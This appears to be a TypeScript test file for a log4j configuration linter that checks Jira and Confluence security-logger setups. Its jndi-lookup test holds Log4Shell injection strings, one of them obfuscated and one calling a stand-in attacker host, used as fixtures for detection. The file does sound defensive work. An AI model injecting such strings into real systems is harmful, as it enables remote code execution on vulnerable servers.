// Every rule: text in, finding out, with the line asserted (1-based, as an editor shows it).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { TextDocument } from 'vscode-languageserver-textdocument';
import type { Diagnostic } from 'vscode-languageserver-types';
import { buildModel } from '../../../server/src/config/build';
import { boundedDistance, validate, nearMissLogger } from '../../../server/src/config/validate';
import { documentedLoggers } from '../../../server/src/config/knowledge/loggers';
import type { Syntax } from '../../../server/src/config/model';
import type { ConfigSettings } from '../../../server/src/config/api';

interface Finding {
  line: number;
  code: string;
  severity: number;
  text: string;
  message: string;
  data: unknown;
}

function lint(text: string, syntax: Syntax, settings?: ConfigSettings, product?: 'jira' | 'confluence'): Finding[] {
  const doc = TextDocument.create('file:///x', syntax.endsWith('xml') ? 'xml' : 'properties', 1, text);
  const model = buildModel(text, syntax, { product });
  return validate(doc, model, settings).map((d: Diagnostic) => ({
    line: d.range.start.line + 1,
    code: String(d.code),
    severity: d.severity ?? 0,
    text: doc.getText(d.range),
    message: typeof d.message === 'string' ? d.message : d.message.value,
    data: d.data,
  }));
}

const codes = (fs: Finding[]) => fs.map((f) => `${f.line}:${f.code}`);
const ERROR = 1;
const WARNING = 2;
const INFORMATION = 3;
const HINT = 4;

const JIRA_HEAD = [
  'log4j.rootLogger=WARN, filelog',
  'log4j.appender.filelog=com.atlassian.jira.logging.JiraHomeAppender',
  'log4j.appender.securitylog=com.atlassian.jira.logging.JiraHomeAppender',
  'log4j.appender.apitokenservice=com.atlassian.jira.logging.JiraHomeAppender',
]; // 4 lines: the test's own lines start at 5
const jira = (...lines: string[]) => [...JIRA_HEAD, ...lines].join('\n') + '\n';
const CONF_HEAD = [
  'log4j.rootLogger=WARN, confluencelog, errorlog',
  'log4j.appender.confluencelog=com.atlassian.confluence.logging.ConfluenceHomeLogAppender',
  'log4j.appender.errorlog=com.atlassian.core.logging.ThreadLocalErrorLogAppender',
];
const conf = (...lines: string[]) => [...CONF_HEAD, ...lines].join('\n') + '\n';

test('correct vendor lines give no finding (Jira and Confluence)', () => {
  assert.deepEqual(lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties'), []);
  assert.deepEqual(lint(conf('log4j.logger.com.kantegasso.AuditLog = INFO, confluencelog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties'), []);
});

test('unknown-logger: case-only and one-letter misses, on the name, with the suggestion', () => {
  const cases: [string, string][] = [
    ['com.kantegasso.Auditlog', 'com.kantegasso.AuditLog'],
    ['com.kantegasso.auditlog', 'com.kantegasso.AuditLog'],
    ['com.kantegaso.AuditLog', 'com.kantegasso.AuditLog'],
    ['com.kantegasso.DiagnosticLog', 'com.kantegasso.DiagnosticsLog'],
    ['de.resolution.apitokenauth.ApiTokenAuthenticatonService', 'de.resolution.apitokenauth.ApiTokenAuthenticationService'],
    ['de.resolution.apitokenAuth', 'de.resolution.apitokenauth'],
  ];
  for (const [wrong, right] of cases) {
    const fs = lint(jira(`log4j.logger.${wrong} = INFO, securitylog`, `log4j.additivity.${wrong} = false`), 'log4j1-properties');
    assert.deepEqual(codes(fs), ['5:unknown-logger'], wrong);
    assert.equal(fs[0].text, wrong);
    assert.equal(fs[0].severity, WARNING);
    assert.deepEqual(fs[0].data, { suggestion: right });
    assert.match(fs[0].message, new RegExp(`Did you mean ${right.replace(/\./g, '\\.')}\\?`));
  }
});

test('unknown-logger: a misspelled name gives that one finding only (no additivity, level or appender finding on it)', () => {
  const fs = lint(jira('log4j.logger.com.kantegasso.Auditlog = WARN, nosuch'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:unknown-logger']);
});

test('unknown-logger: unrelated and legitimate names are not flagged', () => {
  for (const name of ['com.atlassian.jira.whatever', 'com.atlassian.jira.login', 'com.kantegasso', 'com.kantegasso.jira.saml', 'de.resolution.apitokenauth.rest', 'de.resolution.apitokenauth.platform.auth', 'org.apache.shindig', 'AuditLog']) {
    assert.equal(nearMissLogger(name), undefined, name);
  }
  assert.deepEqual(lint(jira('log4j.logger.com.atlassian.jira.whatever = INFO, filelog'), 'log4j1-properties'), []);
});

test('unknown-logger: a misspelled additivity line is the one finding (the logger is not also told it lacks additivity)', () => {
  const fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.Auditlog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['6:unknown-logger']);
});

test('invalid-level: log4j 1 reads an unknown word as DEBUG; suggestion for typos', () => {
  const fs = lint(jira('log4j.logger.com.atlassian.jira = INOF, filelog'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:invalid-level']);
  assert.equal(fs[0].text, 'INOF');
  assert.match(fs[0].message, /DEBUG/);
  assert.deepEqual(fs[0].data, { suggestion: 'INFO' });
  // Case does not matter to log4j; LEVEL#class and INHERITED are fine.
  assert.deepEqual(lint(jira('log4j.logger.a = info, filelog', 'log4j.logger.b = TRACE#com.x.MyLevel', 'log4j.logger.c = inherited'), 'log4j1-properties'), []);
});

test('invalid-level: a missing comma between level and appender, with the fixed value as suggestion', () => {
  const fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:invalid-level']);
  assert.equal(fs[0].text, 'INFO securitylog');
  assert.deepEqual(fs[0].data, { suggestion: 'INFO, securitylog' });
  assert.match(fs[0].message, /comma is missing/);
});

test('invalid-level: Jira\'s shipped ON is a hint, never an error or a warning', () => {
  const fs = lint(jira('log4j.logger.com.atlassian.jira.ofbiz.LoggingSQLInterceptor = ON, filelog', 'log4j.additivity.com.atlassian.jira.ofbiz.LoggingSQLInterceptor = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:invalid-level']);
  assert.equal(fs[0].severity, HINT);
  assert.match(fs[0].message, /DEBUG/);
  // Even when the user raises the rule to error, ON stays a hint.
  const raised = lint(jira('log4j.logger.x = ON, filelog'), 'log4j1-properties', { rules: { 'invalid-level': 'error' } });
  assert.equal(raised[0].severity, HINT);
  const other = lint(jira('log4j.logger.x = FOO, filelog'), 'log4j1-properties', { rules: { 'invalid-level': 'error' } });
  assert.equal(other[0].severity, ERROR);
});

test('invalid-level: log4j 2 says what log4j 2 does; custom levels declared in the file are fine', () => {
  const x = '<Configuration>\n<CustomLevels><CustomLevel name="AUDIT" intLevel="350"/></CustomLevels>\n<Loggers>\n<Logger name="a" level="VERBOSE"/>\n<Logger name="b" level="audit"/>\n<Root level="warn"/>\n</Loggers>\n</Configuration>';
  const fs = lint(x, 'log4j2-xml');
  assert.deepEqual(codes(fs), ['4:invalid-level']);
  assert.match(fs[0].message, /log4j 2/);
  assert.equal(fs[0].text, 'VERBOSE');
});

test('level-suppresses: AuditLog at WARN/ERROR/OFF, DiagnosticsLog at ERROR/OFF (WARN works), apitokenauth above INFO', () => {
  const bad: [string, string][] = [
    ['com.kantegasso.AuditLog', 'WARN'],
    ['com.kantegasso.AuditLog', 'ERROR'],
    ['com.kantegasso.AuditLog', 'OFF'],
    ['com.kantegasso.DiagnosticsLog', 'ERROR'],
    ['com.kantegasso.DiagnosticsLog', 'OFF'],
    ['de.resolution.apitokenauth', 'WARN'],
    ['de.resolution.apitokenauth.platform.auth.ApiTokenRateLimiter', 'FATAL'],
  ];
  for (const [name, level] of bad) {
    const fs = lint(jira(`log4j.logger.${name} = ${level}, securitylog`, `log4j.additivity.${name} = false`), 'log4j1-properties');
    assert.deepEqual(codes(fs), ['5:level-suppresses'], `${name} ${level}`);
    assert.equal(fs[0].text, level);
    assert.deepEqual(fs[0].data, { logger: name, needed: 'INFO' });
  }
  const ok: [string, string][] = [
    ['com.kantegasso.DiagnosticsLog', 'WARN'],
    ['com.kantegasso.AuditLog', 'DEBUG'],
    ['de.resolution.apitokenauth', 'info'],
  ];
  for (const [name, level] of ok) {
    const fs = lint(jira(`log4j.logger.${name} = ${level}, securitylog`, `log4j.additivity.${name} = false`), 'log4j1-properties').filter((f) => f.severity <= WARNING);
    assert.deepEqual(fs, [], `${name} ${level}`);
  }
});

test('level-suppresses: no level of its own inherits the root\'s WARN', () => {
  const fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = , securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:level-suppresses']);
  assert.match(fs[0].message, /inherits WARN from the root logger/);
});

test('level-suppresses: an appender Threshold above the entries\' level drops them (on the reference)', () => {
  const fs = lint(conf('log4j.appender.errorlog.Threshold=WARN', 'log4j.logger.com.kantegasso.AuditLog = INFO, errorlog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:level-suppresses']);
  assert.equal(fs[0].text, 'errorlog');
  assert.match(fs[0].message, /Threshold WARN/);
  assert.deepEqual(fs[0].data, { logger: 'com.kantegasso.AuditLog' }); // no "raise the level" fix: the logger's level is right
  // DiagnosticsLog writes WARN entries: a WARN threshold lets them through.
  const ok = lint(conf('log4j.appender.errorlog.Threshold=WARN', 'log4j.logger.com.kantegasso.DiagnosticsLog = INFO, errorlog', 'log4j.additivity.com.kantegasso.DiagnosticsLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(ok), ['5:diagnostics-failure-collection']);
});

test('additivity: missing (on the logger), true and not-a-boolean (on the value)', () => {
  let fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:additivity']);
  assert.equal(fs[0].text, 'com.kantegasso.AuditLog');
  assert.deepEqual(fs[0].data, { logger: 'com.kantegasso.AuditLog' });
  assert.match(fs[0].message, /filelog/); // says where the duplicates go
  fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = true'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['6:additivity']);
  assert.equal(fs[0].text, 'true');
  fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = flase'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['6:additivity']);
  assert.match(fs[0].message, /treats it as true/);
  // FALSE in any case is fine; other loggers are not the linter's business.
  assert.deepEqual(lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = FALSE', 'log4j.logger.com.atlassian.jira = INFO, filelog'), 'log4j1-properties'), []);
});

test('undefined-appender: only when the file defines appenders; forward references are fine', () => {
  let fs = lint(jira('log4j.logger.com.atlassian.jira.login = WARN, securitylogs'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:undefined-appender']);
  assert.equal(fs[0].text, 'securitylogs');
  assert.deepEqual(fs[0].data, { appender: 'securitylogs' });
  assert.match(fs[0].message, /Did you mean securitylog\?/);
  assert.equal(fs[0].severity, ERROR);
  // Forward reference (Confluence's shipped errorlog is defined ~90 lines later).
  assert.deepEqual(lint('log4j.rootLogger=WARN, later\nlog4j.logger.x=INFO\nlog4j.appender.later=org.apache.log4j.ConsoleAppender\n', 'log4j1-properties'), []);
  // A fragment that defines no appender at all: nothing to compare with.
  assert.deepEqual(lint('log4j.logger.com.atlassian.jira = INFO, whatever\n', 'log4j1-properties'), []);
  // log4j 2 XML.
  fs = lint('<Configuration><Appenders><File name="f" fileName="a.log"/></Appenders>\n<Loggers><Root level="warn">\n<AppenderRef ref="g"/></Root></Loggers></Configuration>', 'log4j2-xml');
  assert.deepEqual(codes(fs), ['3:undefined-appender']);
});

test('writes-nowhere: a documented logger with additivity=false and no appender, in every syntax, with the documented appender to send it to', () => {
  let fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties', undefined, 'jira');
  assert.deepEqual(codes(fs), ['5:writes-nowhere']);
  assert.equal(fs[0].text, 'com.kantegasso.AuditLog');
  assert.equal(fs[0].severity, ERROR);
  assert.deepEqual(fs[0].data, { logger: 'com.kantegasso.AuditLog', appender: 'securitylog' });
  assert.match(fs[0].message, /writes its entries nowhere.*Send it to securitylog \(writes atlassian-jira-security\.log\)/);
  // An empty value and a value with only a level are the same; FALSE in any case.
  assert.deepEqual(codes(lint(jira('log4j.logger.com.kantegasso.AuditLog =', 'log4j.additivity.com.kantegasso.AuditLog = FALSE'), 'log4j1-properties')), ['5:writes-nowhere']);
  // No route known when the product is unknown and the appender is not defined: no appender named.
  fs = lint('log4j.rootLogger=WARN, f\nlog4j.appender.f=org.apache.log4j.FileAppender\nlog4j.logger.de.resolution.apitokenauth=INFO\nlog4j.additivity.de.resolution.apitokenauth=false\n', 'log4j1-properties');
  assert.deepEqual(codes(fs), ['3:writes-nowhere']);
  assert.deepEqual(fs[0].data, { logger: 'de.resolution.apitokenauth' });
  assert.match(fs[0].message, /Add an appender to it\.$/);
  // log4j 2 XML (a self-closing Logger), log4j 2 properties, log4j 1 XML.
  fs = lint('<Configuration><Appenders><File name="f" fileName="a.log"/></Appenders>\n<Loggers>\n<Logger name="com.kantegasso.AuditLog" level="info" additivity="false"/>\n<Root level="warn"><AppenderRef ref="f"/></Root></Loggers></Configuration>', 'log4j2-xml');
  assert.deepEqual(codes(fs), ['3:writes-nowhere']);
  fs = lint('appender.f.type = File\nappender.f.name = f\nlogger.k.name = com.kantegasso.AuditLog\nlogger.k.level = INFO\nlogger.k.additivity = false\nrootLogger = WARN, f\n', 'log4j2-properties');
  assert.deepEqual(codes(fs), ['3:writes-nowhere']);
  fs = lint('<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/">\n<appender name="f" class="org.apache.log4j.FileAppender"/>\n<logger name="com.kantegasso.AuditLog" additivity="false">\n<level value="INFO"/>\n</logger>\n<root><appender-ref ref="f"/></root>\n</log4j:configuration>', 'log4j1-xml');
  assert.deepEqual(codes(fs), ['3:writes-nowhere']);
  // Not: with an appender, additivity true or missing (then the root's appenders write it), level OFF
  // (meant to be off: level-suppresses says so), another logger (silencing one this way is an idiom).
  assert.deepEqual(codes(lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties')), []);
  assert.deepEqual(codes(lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO', 'log4j.additivity.com.kantegasso.AuditLog = true'), 'log4j1-properties')), []);
  assert.deepEqual(codes(lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO'), 'log4j1-properties')), []);
  assert.deepEqual(codes(lint(jira('log4j.logger.com.kantegasso.AuditLog = OFF', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties')), ['5:level-suppresses']);
  assert.deepEqual(codes(lint(jira('log4j.logger.com.example.Noisy = INFO', 'log4j.additivity.com.example.Noisy = false'), 'log4j1-properties')), []);
});

test('wrong-product-appender: securitylog in Confluence, confluencelog in Jira; one finding, not also undefined-appender', () => {
  let fs = lint(conf('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['4:wrong-product-appender']);
  assert.equal(fs[0].text, 'securitylog');
  assert.deepEqual(fs[0].data, { logger: 'com.kantegasso.AuditLog', appender: 'securitylog', expected: 'confluencelog' });
  fs = lint(jira('log4j.logger.com.kantegasso.AuditLog = INFO, confluencelog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:wrong-product-appender']);
  assert.deepEqual(fs[0].data, { logger: 'com.kantegasso.AuditLog', appender: 'confluencelog', expected: 'securitylog' });
  // The API token app in Jira log4j 2: expected filelog.
  fs = lint('<Configuration><Appenders><JiraHomeAppender name="filelog"/><JiraHomeAppender name="securitylog"/></Appenders><Loggers>\n<Logger name="de.resolution.apitokenauth" level="INFO" additivity="false"><AppenderRef ref="confluencelog"/></Logger>\n</Loggers></Configuration>', 'log4j2-xml');
  assert.deepEqual(codes(fs), ['2:wrong-product-appender']);
  assert.deepEqual(fs[0].data, { logger: 'de.resolution.apitokenauth', appender: 'confluencelog', expected: 'filelog' });
  // When the file itself defines securitylog, it is the admin's choice: no finding.
  assert.deepEqual(lint(conf('log4j.appender.securitylog=org.apache.log4j.FileAppender', 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false'), 'log4j1-properties'), []);
});

test('duplicate-key: on the dead earlier line, naming the line that wins', () => {
  const fs = lint(jira('log4j.logger.com.atlassian.jira = INFO, filelog', 'log4j.logger.com.atlassian.jira = WARN, filelog'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:duplicate-key']);
  assert.match(fs[0].message, /line 6/);
  const d = lint('a=1\na=2\n', 'log4j2-properties');
  assert.deepEqual(codes(d), ['1:duplicate-key']);
});

test('xml-syntax: at the right position, once per problem', () => {
  const x = '<Configuration>\n  <Loggers>\n    <Logger name="a" level="INFO">\n      <AppenderRef ref="f">\n    </Logger>\n  </Loggers>\n</Configuration>';
  const fs = lint(x, 'log4j2-xml');
  assert.deepEqual(codes(fs), ['4:xml-syntax']);
  assert.equal(fs[0].text, 'AppenderRef');
  assert.equal(fs[0].severity, ERROR);
  const y = '<Configuration>\n<Loggers>\n</Loggers a="1" a="2">\n</Configuration>';
  assert.deepEqual(codes(lint(y, 'log4j2-xml')).filter((c) => c.endsWith('xml-syntax')).length, 1);
});

test('foreign-syntax: log4j 1 lines in log4j 2 files and the reverse', () => {
  let fs = lint('rootLogger.level = info\nlog4j.logger.com.kantegasso.AuditLog = INFO, securitylog\n', 'log4j2-properties');
  assert.deepEqual(codes(fs), ['2:foreign-syntax']);
  assert.equal(fs[0].text, 'log4j.logger.com.kantegasso.AuditLog');
  // The message gives the log4j 2 lines to write instead.
  assert.match(fs[0].message, /logger\.AuditLog\.name = com\.kantegasso\.AuditLog \/ logger\.AuditLog\.level = INFO \/ logger\.AuditLog\.appenderRef\.securitylog\.ref = securitylog/);
  fs = lint(jira('logger.audit.name = com.kantegasso.AuditLog', 'appender.x.type = File'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:foreign-syntax', '6:foreign-syntax']);
  fs = lint('<Configuration>\n<Loggers>\nlog4j.logger.com.kantegasso.AuditLog = INFO, securitylog\n</Loggers>\n</Configuration>', 'log4j2-xml');
  assert.deepEqual(codes(fs), ['3:foreign-syntax']);
});

test('log4j2-incomplete: mirrors log4j\'s own messages', () => {
  const p = 'logger.a.level = INFO\nlogger.b.name = x\nlogger.b.appenderRef.r.level = INFO\nappender.c.name = c\nappender.d.type = File\n';
  const fs = lint(p, 'log4j2-properties');
  assert.deepEqual(codes(fs), ['1:log4j2-incomplete', '3:log4j2-incomplete', '4:log4j2-incomplete', '5:log4j2-incomplete']);
  assert.match(fs[0].message, /^No name attribute provided for Logger a/);
  assert.match(fs[1].message, /^No ref attribute provided for AppenderRef r/);
  assert.match(fs[2].message, /^No type attribute provided for Appender c/);
  assert.match(fs[3].message, /^No name attribute provided for Appender d/);
  // A reference to the nameless appender's id is the same mistake: one finding.
  const one = lint('appender.sec.type = File\nappender.sec.fileName = a.log\nappender.f.type = File\nappender.f.name = f\nlogger.k.name = x\nlogger.k.appenderRef.sec.ref = sec\n', 'log4j2-properties');
  assert.deepEqual(codes(one), ['1:log4j2-incomplete']);
  const x = '<Configuration><Loggers>\n<Logger level="INFO"/>\n<Root><AppenderRef/></Root>\n</Loggers></Configuration>';
  assert.deepEqual(codes(lint(x, 'log4j2-xml')), ['2:log4j2-incomplete', '3:log4j2-incomplete']);
});

test('diagnostics-failure-collection: information on the DiagnosticsLog logger', () => {
  const fs = lint(jira('log4j.logger.com.kantegasso.DiagnosticsLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.DiagnosticsLog = false'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:diagnostics-failure-collection']);
  assert.equal(fs[0].severity, INFORMATION);
  assert.match(fs[0].message, /Enable failure collection/);
  assert.equal(fs[0].text, 'com.kantegasso.DiagnosticsLog');
});

test('vulnerable-class: log4j 1 classes with their CVE', () => {
  const fs = lint(jira('log4j.appender.jms=org.apache.log4j.net.JMSAppender', 'log4j.appender.db=org.apache.log4j.jdbc.JDBCAppender'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:vulnerable-class', '6:vulnerable-class']);
  assert.match(fs[0].message, /CVE-2021-4104/);
  assert.match(fs[1].message, /CVE-2022-23305/);
  assert.equal(fs[0].text, 'org.apache.log4j.net.JMSAppender');
  const x = lint('<log4j:configuration>\n<appender name="s" class="org.apache.log4j.net.SocketServer"/>\n</log4j:configuration>', 'log4j1-xml');
  assert.deepEqual(codes(x), ['2:vulnerable-class']);
});

test('jndi-lookup: flagged wherever it is, never resolved; plain lookups are fine', () => {
  let fs = lint('<Configuration>\n<Properties>\n<Property name="x">${jndi:ldap://attacker.example/a}</Property>\n</Properties>\n<Appenders><File name="f" fileName="${sys:catalina.home}/a.log"/></Appenders>\n</Configuration>', 'log4j2-xml');
  assert.deepEqual(codes(fs), ['3:jndi-lookup']);
  assert.equal(fs[0].text, '${jndi:ldap://attacker.example/a}');
  assert.match(fs[0].message, /CVE-2021-44228/);
  fs = lint('appender.f.type = File\nappender.f.name = f\nappender.f.fileName = ${${lower:j}ndi:ldap://x/a}\n', 'log4j2-properties');
  assert.deepEqual(codes(fs), ['3:jndi-lookup']);
  fs = lint(jira('log4j.appender.filelog.File=${jndi:ldap://x/a}'), 'log4j1-properties');
  assert.deepEqual(codes(fs), ['5:jndi-lookup']);
});

test('severity settings: off drops a rule, others change the severity; source and code always set', () => {
  const t = jira('log4j.logger.com.kantegasso.AuditLog = INFO, securitylog');
  assert.deepEqual(lint(t, 'log4j1-properties', { rules: { additivity: 'off' } }), []);
  const fs = lint(t, 'log4j1-properties', { rules: { additivity: 'error' } });
  assert.equal(fs[0].severity, ERROR);
  const doc = TextDocument.create('file:///x', 'properties', 1, t);
  const d = validate(doc, buildModel(t, 'log4j1-properties'));
  assert.equal(d[0].source, 'authlog');
  assert.equal(d[0].code, 'additivity');
});

test('log4j 2 properties and XML: the documented blocks pass; the same mistakes are found', () => {
  const good = 'appender.s.type = RollingFile\nappender.s.name = securitylog\nlogger.k.name = com.kantegasso.AuditLog\nlogger.k.level = INFO\nlogger.k.additivity = false\nlogger.k.appenderRef.s.ref = securitylog\nrootLogger = WARN, securitylog\n';
  assert.deepEqual(lint(good, 'log4j2-properties', undefined, 'jira'), []);
  const bad = good.replace('logger.k.level = INFO', 'logger.k.level = WARN').replace('logger.k.additivity = false\n', '');
  assert.deepEqual(codes(lint(bad, 'log4j2-properties', undefined, 'jira')), ['3:additivity', '4:level-suppresses']);
});

test('unknown-logger: the length table only skips names no documented name is near (same answers as trying every documented name)', () => {
  // The rule as stated, every documented name tried: case-only difference, else the closest within
  // its limit (2, or 3 from 20 characters), never a name under a documented one.
  const reference = (name: string): string | undefined => {
    if (documentedLoggers.some((d) => d.name === name)) return undefined;
    let best: string | undefined;
    let bestD = Infinity;
    for (const d of documentedLoggers) {
      const limit = d.name.length >= 20 ? 3 : 2;
      if (Math.abs(d.name.length - name.length) > limit) continue;
      if (d.name.toLowerCase() === name.toLowerCase()) return d.name;
      if (name.startsWith(d.name + '.')) continue;
      const dist = boundedDistance(name, d.name, limit);
      if (dist <= limit && dist < bestD) {
        best = d.name;
        bestD = dist;
      }
    }
    return best;
  };
  const names: string[] = ['', 'a', 'com.example.module1.sub1.Component1'];
  for (const d of documentedLoggers) {
    const n = d.name;
    names.push(n, n.toLowerCase(), n + '.x', n + 'x', n + 'xyz', n + 'wxyz', n.slice(1), n.slice(3), n.slice(4), n.slice(0, -2), n.slice(0, -4));
    for (let i = 0; i < n.length; i += 3) names.push(n.slice(0, i) + n.slice(i + 1), n.slice(0, i) + 'Q' + n.slice(i + 1), n.slice(0, i) + 'QQ' + n.slice(i));
  }
  for (let len = 0; len <= 70; len++) names.push('x'.repeat(len), 'com.kantegasso.' + 'y'.repeat(len));
  for (const name of names) assert.equal(nearMissLogger(name)?.name, reference(name), JSON.stringify(name));
});

test('a logger given on a category line and again on a later logger line is checked once, at the later line, wherever the lines are', () => {
  // The merged logger moves after the logger between its two lines: its name, level and additivity come with it.
  const text = [
    'log4j.category.com.kantegasso.AuditLog=INFO, securitylog',
    'log4j.logger.com.example.Other=INFO',
    'log4j.logger.com.kantegasso.AuditLog=ERROR, securitylog',
    'log4j.additivity.com.kantegasso.AuditLog=false',
    'log4j.appender.securitylog=com.atlassian.jira.logging.JiraHomeAppender',
    'log4j.appender.securitylog.File=atlassian-jira-security.log',
    '',
  ].join('\n');
  const document = TextDocument.create('file:///srv/jira/log4j.properties', 'properties', 1, text);
  const found = validate(document, buildModel(text, 'log4j1-properties'));
  assert.deepEqual(
    found.map((d) => [d.code, d.range.start.line, text.split('\n')[d.range.start.line]!.slice(d.range.start.character, d.range.end.character)]),
    [['level-suppresses', 2, 'ERROR']],
  );
});

test('loggers with the same value are each read where they are written (the builder reads a repeated value once)', () => {
  // Four lines with the value `WARNING, nowhere` (written after other separators and blanks), one with `, nowhere`, one with `WARNING,nowhere`.
  const text = [
    'log4j.rootLogger=WARN, filelog',
    'log4j.appender.filelog=org.apache.log4j.FileAppender',
    'log4j.logger.a = WARNING, nowhere',
    'log4j.logger.bb:WARNING, nowhere',
    '   log4j.logger.ccc   WARNING, nowhere',
    'log4j.category.dddd=WARNING, nowhere',
    'log4j.logger.e=, nowhere',
    'log4j.logger.f = WARNING,nowhere',
    'log4j.logger.g = , nowhere',
  ].join('\n');
  const found = lint(text, 'log4j1-properties').filter((f) => f.code === 'invalid-level' || f.code === 'undefined-appender');
  assert.deepEqual(
    found.map((f) => `${f.line}:${f.code}:${f.text}`),
    [
      '3:invalid-level:WARNING', '3:undefined-appender:nowhere',
      '4:invalid-level:WARNING', '4:undefined-appender:nowhere',
      '5:invalid-level:WARNING', '5:undefined-appender:nowhere',
      '6:invalid-level:WARNING', '6:undefined-appender:nowhere',
      '7:undefined-appender:nowhere',
      '8:invalid-level:WARNING', '8:undefined-appender:nowhere',
      '9:undefined-appender:nowhere',
    ],
  );
  const model = buildModel(text, 'log4j1-properties');
  const byName = new Map(model.loggers.map((l) => [l.name, l]));
  for (const name of ['a', 'bb', 'ccc', 'dddd', 'f']) {
    const l = byName.get(name)!;
    assert.equal(l.level?.raw, 'WARNING');
    assert.equal(text.slice(l.level!.span.start, l.level!.span.end), 'WARNING');
    assert.deepEqual(l.appenderRefs.map((r) => [r.name, text.slice(r.span.start, r.span.end)]), [['nowhere', 'nowhere']]);
  }
  for (const name of ['e', 'g']) assert.equal(byName.get(name)!.level, undefined);
});
